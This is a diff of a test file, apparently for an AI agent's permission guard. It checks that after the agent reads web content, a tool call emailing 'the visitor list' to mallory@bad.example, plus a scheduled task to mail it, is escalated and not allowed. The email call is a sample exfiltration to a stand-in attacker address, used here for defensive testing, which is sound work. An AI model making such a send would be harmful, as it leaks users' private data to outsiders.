@@ -11,7 +11,7 @@ describe('after text that others wrote was read', () => {
   it('asks before an effect outside the working folder that the user did not ask for [F3]', () => {
     const { ask, got } = openTestSession({ request: 'When does the museum at museum.example open?' });
     const mail = { to: 'mallory@bad.example', subject: 'list', body: 'the visitor list' };
-    expect(ask('email_send', mail)).toBe('allow flow');
+    expect(ask('email_send', mail)).toBe('escalate target-from-nowhere');
     got('web_fetch', { url: 'https://museum.example' }, PAGE);
     expect(ask('email_send', mail)).toBe('escalate target-not-from-you');
     expect(ask('schedule_create', { name: 'x', every: '1d', task: 'mail the list' })).toBe(
